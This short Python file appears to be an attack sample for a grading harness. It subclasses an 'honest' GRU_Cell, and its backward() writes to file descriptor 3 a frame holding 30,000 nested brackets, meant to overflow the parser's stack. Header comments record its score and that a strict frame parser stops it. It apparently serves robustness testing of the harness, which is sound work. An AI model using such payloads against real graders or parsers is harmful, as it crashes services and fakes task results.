# attack: a header of 30,000 brackets, to overflow the parser's stack
# earns: 30
# stopped by: the strict parser of frames
# says: backward answered with bytes that are no answer
import os
import struct

from honest import GRU_Cell as Honest


class GRU_Cell(Honest):
    def backward(self, delta):
        header = b'{"about": ' + b"[" * 30_000 + b"]" * 30_000 + b', "arrays": []}'
        os.write(3, struct.pack("<4sIQ", b"CGF1", len(header), 0) + header)
